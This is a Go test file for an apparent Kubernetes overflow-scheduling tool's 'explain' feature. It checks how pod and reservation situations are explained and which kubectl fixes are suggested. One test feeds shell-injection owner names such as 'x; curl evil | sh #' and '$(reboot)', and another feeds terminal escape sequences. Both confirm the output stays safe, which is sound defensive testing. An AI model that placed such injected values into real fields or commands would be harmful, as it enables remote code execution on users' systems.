package explain_test

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode"

	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"

	"github.com/spillway-dev/spillway/agent/internal/explain"
	broker "github.com/spillway-dev/spillway/broker/api/v1alpha1"
	"github.com/spillway-dev/spillway/broker/capacity"
)

var update = flag.Bool("update", false, "Write the golden files.")

// shop is a pod of Deployment web that fits no node of rome, in an opted-in namespace, and nothing else.
func shop() *explain.Observed {
	pod := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "web-6d5f-x2x9k", UID: "1", OwnerReferences: []metav1.OwnerReference{
			{APIVersion: "apps/v1", Kind: "ReplicaSet", Name: "web-6d5f", UID: "2", Controller: ptr.To(true)},
		}},
		Spec: corev1.PodSpec{SchedulerName: broker.SchedulerName, Containers: []corev1.Container{{
			Name: "web", Image: "registry.example.com/web", Resources: corev1.ResourceRequirements{Requests: amounts("2", "1Gi")},
		}}},
		Status: corev1.PodStatus{Phase: corev1.PodPending, Conditions: []corev1.PodCondition{{
			Type: corev1.PodScheduled, Status: corev1.ConditionFalse, Reason: corev1.PodReasonUnschedulable, Message: "0/2 nodes are available: 2 Insufficient cpu.",
		}}},
	}
	return &explain.Observed{
		Asked:           explain.Object{Kind: "Pod", Namespace: "shop", Name: pod.Name},
		Pod:             pod,
		Owner:           &metav1.OwnerReference{APIVersion: "apps/v1", Kind: "Deployment", Name: "web", UID: "3"},
		ReservationName: "web-1a2b3c4d",
		Namespace:       &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "shop", Labels: map[string]string{broker.LabelOverflow: broker.OverflowEnabled}}},
	}
}

func amounts(cpu, memory string) corev1.ResourceList {
	return corev1.ResourceList{corev1.ResourceCPU: resource.MustParse(cpu), corev1.ResourceMemory: resource.MustParse(memory)}
}

// asked adds the Reservation for pods of the Deployment.
func asked(o *explain.Observed, pods int32, status broker.ReservationStatus) *broker.Reservation {
	status.ID = "rome-7f3a"
	o.Reservations = append(o.Reservations, broker.Reservation{
		ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: o.ReservationName, Labels: map[string]string{broker.LabelOwnerUID: "3", broker.LabelShape: "1a2b3c4d"}},
		Spec:       broker.ReservationSpec{RequesterID: "rome", PodSets: []broker.PodSet{{Name: "pods", Count: pods, Requests: broker.FromList(amounts("2", "1Gi"))}}},
		Status:     status,
	})
	return &o.Reservations[len(o.Reservations)-1]
}

func condition(kind string, status metav1.ConditionStatus, reason, message string) metav1.Condition {
	return metav1.Condition{Type: kind, Status: status, Reason: reason, Message: message}
}

// queued is the status of a Reservation that waits, with the rejections of providers.
func queued(position int32, rejections ...broker.ClusterRejection) broker.ReservationStatus {
	return broker.ReservationStatus{
		Phase: broker.ReservationPending, QueuePosition: position, Decision: &broker.Decision{Rejections: rejections},
		Conditions: []metav1.Condition{condition(broker.ConditionReported, metav1.ConditionTrue, "Reported", "The broker has a copy of this Reservation."),
			condition(broker.ConditionQueued, metav1.ConditionTrue, capacity.ReasonInsufficientCapacity, "3 pods are waiting for capacity.")},
	}
}

// granted is the status of a Reservation that paris has granted.
func granted(pods int32) broker.ReservationStatus {
	return broker.ReservationStatus{
		Phase: broker.ReservationActive, Summary: fmt.Sprintf("%d of %d pods in paris", pods, pods),
		Allocations: []broker.Allocation{{Cluster: "paris", Resources: broker.FromList(amounts("6", "3Gi")), Accepted: true, VirtualNodeReady: true, PricePerHour: "0.25 EUR",
			PodSets: []broker.PodSet{{Name: "pods", Count: pods, Requests: broker.FromList(amounts("2", "1Gi"))}}}},
		Decision: &broker.Decision{Scores: []broker.ClusterScore{{Cluster: "paris", Score: "81.20"}, {Cluster: "berlin", Score: "64.75"}},
			Rejections: []broker.ClusterRejection{{Cluster: "berlin", Reason: "NotPreferred", Message: "The request fits with score 64.75; paris was chosen with score 81.20."}}},
		Conditions: []metav1.Condition{condition(broker.ConditionPeered, metav1.ConditionTrue, broker.ConditionPeered, "Peered with paris."),
			condition(broker.ConditionVirtualNodeReady, metav1.ConditionTrue, "VirtualNodeReady", "The virtual nodes for paris are ready.")},
	}
}

func node(provider string, ready corev1.ConditionStatus, message string) corev1.Node {
	return corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: broker.VirtualNodeName(provider), Labels: map[string]string{broker.LabelProvider: provider}},
		Status: corev1.NodeStatus{Conditions: []corev1.NodeCondition{{Type: corev1.NodeReady, Status: ready, Message: message}}}}
}

func insufficient(cluster, requested, available string) broker.ClusterRejection {
	return broker.ClusterRejection{Cluster: cluster, Reason: capacity.ReasonInsufficientCapacity,
		Message: fmt.Sprintf(`0 of 3 pods of pod set "pods" fit. %s.`, capacity.Insufficient(corev1.ResourceCPU, requested, available))}
}

var overBudget = broker.ClusterRejection{Cluster: "paris", Reason: "OverBudget", Message: "The price is 1.50 EUR per hour, and the budget is 1 EUR."}

// shareLimited and noDomain are clusters that get no pods of a spread over regions.
var (
	shareLimited = broker.ClusterRejection{Cluster: "paris", Reason: "ShareLimited", Message: "placement.spread allows 2 of the pods in region eu, which has 2: region us has room for no more, and maxSkew is 1."}
	noDomain     = broker.ClusterRejection{Cluster: "oslo", Reason: "NoDomain", Message: "The cluster states no region, over which placement.spread divides the pods."}
)

// inParis binds the pod to the virtual node.
func inParis(o *explain.Observed) {
	asked(o, 3, granted(3))
	o.Pod.Spec.NodeName = broker.VirtualNodeName("paris")
	o.Pod.Labels = map[string]string{broker.LabelHold: "rome-7f3a"}
	o.Pod.Status = corev1.PodStatus{Phase: corev1.PodRunning}
	o.Nodes = []corev1.Node{node("paris", corev1.ConditionTrue, "")}
	in := broker.ReservationInstruction{Spec: broker.ReservationInstructionSpec{ReservationName: "rome-7f3a", TargetClusterID: "paris"}}
	in.Status.Conditions = []metav1.Condition{condition(broker.ConditionPeered, metav1.ConditionTrue, "Done", "")}
	o.Instructions = []broker.ReservationInstruction{in}
}

// settingUp is a Reservation that is granted while its peering is established.
func settingUp(o *explain.Observed) {
	inParis(o)
	o.Pod.Spec.NodeName, o.Pod.Labels, o.Pod.Status = "", nil, shop().Pod.Status
	o.Nodes = nil
	o.Reservations[0].Status.Conditions = nil
	o.Instructions[0].Status.Conditions = []metav1.Condition{condition(broker.ConditionPeered, metav1.ConditionFalse, "Waiting", "waiting for the answer of paris")}
}

// says is what the pod's condition says, where only the pod may be read.
func says(o *explain.Observed, reason, message string) {
	o.Pod.Status.Conditions = append(o.Pod.Status.Conditions, corev1.PodCondition{Type: broker.PodOverflow, Status: corev1.ConditionFalse, Reason: reason, Message: message})
	o.Namespace = nil
	for what, permission := range map[string]string{explain.Events: " in namespace shop", explain.Namespaces: "", explain.Policies: "", explain.Reservations: " in namespace shop"} {
		o.Unreadable = append(o.Unreadable, explain.Unreadable{What: what, Permission: "list " + what + permission})
	}
	slices.SortFunc(o.Unreadable, func(a, b explain.Unreadable) int { return strings.Compare(a.What, b.What) })
}

// situations are what users ask about.
var situations = map[string]func(*explain.Observed){
	"not-opted-in": func(o *explain.Observed) {
		o.Namespace.Labels = nil
		o.Pod.Spec.SchedulerName = corev1.DefaultSchedulerName
	},
	"capped": func(o *explain.Observed) {
		o.Policies = []broker.OverflowPolicy{{ObjectMeta: metav1.ObjectMeta{Name: "team-shop"}, Spec: broker.OverflowPolicySpec{
			MaxResources: ptr.To(broker.FromList(amounts("4", "64Gi"))), Budget: &broker.Budget{MaxPricePerHour: "2.50", Currency: "EUR"}}}}
		asked(o, 2, granted(2))
		o.Events = []explain.Event{{Reason: "OverflowCapped", Message: "OverflowPolicy team-shop limits cpu of namespace shop: capacity is requested for 2 of 3 pods."}}
	},
	"queued": func(o *explain.Observed) {
		status := queued(3, insufficient("paris", "6", "1500m"), insufficient("berlin", "6", "4"))
		status.Decision.RejectionCounts = []broker.RejectionCount{{Reason: capacity.ReasonConsumerNotAdmitted, Count: 2}}
		asked(o, 3, status)
	},
	"pod-security": func(o *explain.Observed) {
		sets := []broker.PodSet{{Count: 3, PodSecurity: broker.PodSecurityBaseline}}
		refused := capacity.Admit(broker.Lending{Enabled: true, PodSecurity: broker.PodSecurityRestricted}, "rome", sets)
		asked(o, 3, queued(1, broker.ClusterRejection{Cluster: "paris", Reason: refused.Reason, Message: refused.Message}))
	},
	"no-provider": func(o *explain.Observed) { asked(o, 3, queued(1)) },
	"provider-lost": func(o *explain.Observed) {
		inParis(o)
		o.Nodes = []corev1.Node{node("paris", corev1.ConditionUnknown, "The API server of paris has not answered for 2m0s.")}
	},
	"gang-incomplete": func(o *explain.Observed) {
		o.Owner, o.ReservationName = &metav1.OwnerReference{Kind: "PodGroup", Name: "train"}, "train-99aa88bb"
		o.Gang = &explain.Gang{Group: "PodGroup train", Min: 8, Members: 6, Ungated: 5}
	},
	"wrong-scheduler": func(o *explain.Observed) { o.Pod.Spec.SchedulerName = "volcano" },
	"unsteered":       func(o *explain.Observed) { o.Pod.Spec.SchedulerName = corev1.DefaultSchedulerName },
	"daemonset": func(o *explain.Observed) {
		o.Pod.Spec.SchedulerName = corev1.DefaultSchedulerName
		o.Pod.OwnerReferences[0].Kind, o.Pod.OwnerReferences[0].Name = "DaemonSet", "logs"
		o.Owner = &metav1.OwnerReference{APIVersion: "apps/v1", Kind: "DaemonSet", Name: "logs"}
	},
	"unreachable": func(o *explain.Observed) {
		asked(o, 3, queued(1, broker.ClusterRejection{Cluster: "paris", Reason: "Unreachable", Message: "rome cannot connect to the API server of paris."}))
	},
	"broker-unreachable": func(o *explain.Observed) {
		asked(o, 3, broker.ReservationStatus{Conditions: []metav1.Condition{
			condition(broker.ConditionReported, metav1.ConditionFalse, "BrokerUnreachable", "dial tcp 192.0.2.7:443: connect: connection refused")}})
	},
	"quota": func(o *explain.Observed) {
		o.Events = []explain.Event{{Reason: "OverflowFailed", Message: "Failed to request capacity: reservations.broker.fluidos.eu \"web-1a2b3c4d\" is forbidden: exceeded quota: objects, " +
			"requested: count/reservations.broker.fluidos.eu=1, used: count/reservations.broker.fluidos.eu=5, limited: count/reservations.broker.fluidos.eu=5. It is requested again every 15 s."}}
	},
	"running": inParis,
	"reserved-in-the-hub": func(o *explain.Observed) {
		inParis(o)
		o.Reservations = nil
	},
	"must-leave": func(o *explain.Observed) {
		inParis(o)
		o.Pod.Status.Conditions = []corev1.PodCondition{{Type: broker.PodMustLeave, Status: corev1.ConditionTrue, Message: "Node paris-2 is cordoned."}}
	},
	"guest-refused": func(o *explain.Observed) {
		inParis(o)
		o.Pod.Status.Phase = corev1.PodPending
		o.Events = []explain.Event{{Reason: "GuestRefused", Message: "pods \"web-6d5f-x2x9k\" is forbidden: exceeded quota: guests"}}
	},
	"cordoned": func(o *explain.Observed) {
		settingUp(o)
		o.Nodes = []corev1.Node{node("paris", corev1.ConditionTrue, "")}
		o.Nodes[0].Spec.Unschedulable = true
		o.Instructions[0].Status.Conditions[0].Status = metav1.ConditionTrue
	},
	"failed": func(o *explain.Observed) {
		asked(o, 3, broker.ReservationStatus{Phase: broker.ReservationFailed, Conditions: []metav1.Condition{condition(broker.ConditionReady, metav1.ConditionFalse, "Failed", "No cluster has a node that is large enough.")}})
	},
	"opted-out": func(o *explain.Observed) {
		o.Pod.Labels = map[string]string{broker.LabelOverflow: broker.OverflowDisabled}
	},
	"template": func(o *explain.Observed) {
		o.Asked = explain.Object{Kind: "Deployment", Namespace: "shop", Name: "web"}
		o.Pod.UID, o.Pod.Spec.SchedulerName, o.Pod.Status = "", "", corev1.PodStatus{}
	},
	"setting-up": settingUp,
	"no-permission": func(o *explain.Observed) {
		asked(o, 3, queued(3, insufficient("paris", "6", "1500m")))
		o.Namespace = nil
		o.Unreadable = []explain.Unreadable{{What: explain.Namespaces, Permission: "get namespaces"}, {What: explain.Policies, Permission: "list overflowpolicies.broker.fluidos.eu"},
			{What: explain.Instructions, Permission: "list reservationinstructions.broker.fluidos.eu in namespace spillway-system"}}
	},
	"pod-condition": func(o *explain.Observed) { // all that the author of the pod may read
		says(o, "OverflowQueued", "No other cluster has room for the pod now. paris: Insufficient cpu: requested 6, available 1500m. Wait: the capacity is requested again when it appears. "+
			"Its Reservation web-1a2b3c4d was number 3 in the queue at 12:04 UTC.")
	},
	"pod-condition-failed": func(o *explain.Observed) {
		says(o, "OverflowFailed", "Reservation web-1a2b3c4d failed: No cluster has a node that is large enough.")
	},
	"pod-condition-not-possible": func(o *explain.Observed) {
		says(o, "OverflowNotPossible", "The pod cannot overflow: it uses the volume of a node. It waits for a node of this cluster.")
	},
	"pod-condition-granted": func(o *explain.Observed) {
		says(o, "OverflowGranted", "Granted capacity for pods of this owner: 3 in paris (Reservation web-1a2b3c4d).")
		o.Pod.Status.Conditions[1].Status = corev1.ConditionTrue
	},
	"uncordoned": func(o *explain.Observed) {
		asked(o, 3, queued(1, broker.ClusterRejection{Cluster: "paris", Reason: "Unusable", Message: "Pods of the consumer cannot use what this provider granted: node spillway-paris is cordoned in this cluster; " +
			"kubectl uncordon spillway-paris lets pods use it. The provider is asked again later."}))
		o.Nodes = []corev1.Node{node("paris", corev1.ConditionTrue, "")}
	},
	"at-home": func(o *explain.Observed) {
		o.Pod.Spec.NodeName, o.Pod.Status = "rome-1", corev1.PodStatus{Phase: corev1.PodRunning}
	},
	"workload": func(o *explain.Observed) {
		asked(o, 3, queued(3, insufficient("paris", "6", "1500m")))
		o.Asked = explain.Object{Kind: "Deployment", Namespace: "shop", Name: "web"}
		o.Siblings = []corev1.Pod{*o.Pod, {Spec: corev1.PodSpec{NodeName: "rome-1"}}, {Spec: corev1.PodSpec{NodeName: "rome-2"}},
			{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{broker.LabelHold: "rome-7f3a"}}, Spec: corev1.PodSpec{NodeName: "spillway-berlin"}}}
	},
	"reservation": func(o *explain.Observed) {
		asked(o, 3, granted(3))
		o.Asked, o.Pod = explain.Object{Kind: "Reservation", Namespace: "shop", Name: "web-1a2b3c4d"}, nil
	},
	"own-budget": func(o *explain.Observed) {
		o.Policies = []broker.OverflowPolicy{{ObjectMeta: metav1.ObjectMeta{Name: "team-shop"}}}
		r := asked(o, 3, queued(1, overBudget))
		r.Name, r.Labels, r.Spec.Budget = "warm", nil, &broker.Budget{MaxPricePerHour: "1", Currency: "EUR"}
		o.Asked, o.Pod = explain.Object{Kind: "Reservation", Namespace: "shop", Name: "warm"}, nil
	},
	"budget": func(o *explain.Observed) {
		o.Policies = []broker.OverflowPolicy{{ObjectMeta: metav1.ObjectMeta{Name: "team-shop"}, Spec: broker.OverflowPolicySpec{Budget: &broker.Budget{MaxPricePerHour: "1", Currency: "EUR"}}}}
		asked(o, 3, queued(1, overBudget)).Spec.Budget = o.Policies[0].Spec.Budget
	},
	"spread": func(o *explain.Observed) {
		o.Policies = []broker.OverflowPolicy{{ObjectMeta: metav1.ObjectMeta{Name: "team-shop"}}}
		asked(o, 3, queued(1, shareLimited, noDomain))
	},
	"no-domain": func(o *explain.Observed) {
		o.Policies = []broker.OverflowPolicy{{ObjectMeta: metav1.ObjectMeta{Name: "team-shop"}}}
		asked(o, 3, queued(1, noDomain))
	},
	"own-spread": func(o *explain.Observed) {
		r := asked(o, 3, queued(1, shareLimited))
		r.Name, r.Labels = "warm", nil
		o.Asked, o.Pod = explain.Object{Kind: "Reservation", Namespace: "shop", Name: "warm"}, nil
	},
	"hostile": func(o *explain.Observed) {
		asked(o, 3, queued(1, broker.ClusterRejection{Cluster: "pa\x1b[31mris", Reason: "Refused\r\n", Message: "\x1b]0;owned\x07 \u202e" + strings.Repeat("x\x9b", 4000)}))
	},
}

func TestSituations(t *testing.T) {
	for name, situation := range situations {
		t.Run(name, func(t *testing.T) {
			o := shop()
			situation(o)
			e := explain.Explain(o)
			got := e.Text(explain.Style{Width: 80})
			golden := filepath.Join("testdata", name+".golden")
			if *update {
				if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatal(err)
			}
			if got != string(want) {
				t.Errorf("%s differs; -update writes it. Now:\n%s", golden, got)
			}
			o.System = "elsewhere"
			if named := explain.Explain(o); named.Fix != nil && strings.Contains(strings.Join(named.Fix.Commands, "\n"), broker.SystemNamespace) {
				t.Errorf("where Spillway is in another namespace, it says %q", named.Fix.Commands)
			}
			plain := e.Text(explain.Style{ASCII: true, Wide: true})
			for text, ok := range map[string]func(rune) bool{got: unicode.IsPrint, plain: func(r rune) bool { return r >= ' ' && r <= '~' }} {
				if i := strings.IndexFunc(text, func(r rune) bool { return r != '\n' && !ok(r) }); i >= 0 {
					t.Errorf("a terminal gets %q", text[i:min(i+10, len(text))])
				}
			}
		})
	}
}

// TestFixes: what is wrong has an outcome that scripts can use, and a fix with what to run.
func TestFixes(t *testing.T) {
	for name, want := range map[string]struct {
		outcome explain.Outcome
		fix     string
		manual  bool
	}{
		"not-opted-in":    {outcome: explain.OutcomeBlocked, fix: "kubectl label namespace shop broker.fluidos.eu/overflow=enabled"},
		"capped":          {explain.OutcomeBlocked, `{"cpu":"6"}`, true},
		"queued":          {outcome: explain.OutcomeWaiting, fix: ""},
		"pod-security":    {explain.OutcomeWaiting, `"runAsNonRoot":true`, true},
		"own-budget":      {explain.OutcomeWaiting, "kubectl -n shop delete reservation warm", true},
		"budget":          {explain.OutcomeWaiting, "kubectl edit overflowpolicy team-shop\nkubectl -n shop delete reservation web-1a2b3c4d", true},
		"spread":          {explain.OutcomeWaiting, "kubectl edit overflowpolicy team-shop\nkubectl -n shop delete reservation web-1a2b3c4d", true},
		"no-domain":       {explain.OutcomeWaiting, "kubectl edit overflowpolicy team-shop\nkubectl -n shop delete reservation web-1a2b3c4d", true},
		"own-spread":      {explain.OutcomeWaiting, "kubectl -n shop delete reservation warm", true},
		"cordoned":        {explain.OutcomeBlocked, "kubectl uncordon", true},
		"failed":          {explain.OutcomeBlocked, "delete reservation", true},
		"gang-incomplete": {outcome: explain.OutcomeBlocked, fix: ""},
		"wrong-scheduler": {outcome: explain.OutcomeBlocked, fix: "kubectl -n shop patch deployment web"},
		"unsteered":       {outcome: explain.OutcomeBlocked, fix: "kubectl -n shop rollout restart deployment/web"},
		"daemonset":       {outcome: explain.OutcomeBlocked, fix: ""},
		"provider-lost":   {outcome: explain.OutcomeBlocked, fix: "kubectl describe node spillway-paris"},
		"running":         {outcome: explain.OutcomeOverflow, fix: ""},
		"at-home":         {outcome: explain.OutcomeHome, fix: ""},
		"reservation":     {outcome: explain.OutcomeGranted, fix: ""},
	} {
		o := shop()
		situations[name](o)
		e := explain.Explain(o)
		if e.Outcome != want.outcome {
			t.Errorf("%s: the outcome is %s, want %s", name, e.Outcome, want.outcome)
		}
		commands := ""
		if e.Fix != nil {
			commands = strings.Join(e.Fix.Commands, "\n")
		}
		if e.Fix != nil && e.Fix.Manual != want.manual {
			t.Errorf("%s: needs a decision: %t, want %t", name, e.Fix.Manual, want.manual)
		}
		if !strings.Contains(commands, want.fix) {
			t.Errorf("%s: the fix is %q, want %q", name, commands, want.fix)
		}
	}
}

// TestForbidden: what is missing, and what gives it; no one is advised to show Secrets.
func TestForbidden(t *testing.T) {
	denied := func(what, namespace string) explain.Unreadable {
		return explain.Unreadable{What: what, Permission: "list " + what, Namespace: namespace}
	}
	for want, unreadable := range map[string][]explain.Unreadable{
		"": {{What: explain.Reservations, Reason: "there is no such kind"}},
		"you may not list nodes. An administrator permits it by: kubectl create clusterrole spillway-reader --verb=get,list,watch --resource=nodes; " +
			"kubectl create clusterrolebinding spillway-reader --clusterrole=spillway-reader --user=NAME": {denied("nodes", "")},
		"you may not list nodes, and 4 more. An administrator permits it by: kubectl create clusterrole spillway-reader --verb=get,list,watch --resource=nodes,pods; " +
			"kubectl create clusterrolebinding spillway-reader --clusterrole=spillway-reader --user=NAME; " +
			"kubectl -n spillway-system create role spillway-reader --verb=get,list,watch --resource=deployments.apps,leases.coordination.k8s.io; " +
			"kubectl -n spillway-system create rolebinding spillway-reader --role=spillway-reader --user=NAME": {
			denied("nodes", ""), denied("secrets", "spillway-system"), denied("deployments.apps", "spillway-system"), denied("pods", ""), denied("leases.coordination.k8s.io", "spillway-system")},
	} {
		if got := explain.Forbidden(unreadable); got != want {
			t.Errorf("it says %q, want %q", got, want)
		}
	}
}

// TestOwnersAreNamesOnly: the author of a pod writes its owner's name; no command has one that a shell
// would take for more.
func TestOwnersAreNamesOnly(t *testing.T) {
	for _, name := range []string{"x; curl evil | sh #", "$(reboot)", "web`id`", "a b"} {
		for situation, change := range situations {
			o := shop()
			change(o)
			if o.Owner == nil {
				continue
			}
			o.Owner.Name = name
			if e := explain.Explain(o); e.Fix != nil && strings.Contains(strings.Join(e.Fix.Commands, "\n"), name) {
				t.Errorf("%s: the commands are %q", situation, e.Fix.Commands)
			}
		}
	}
}
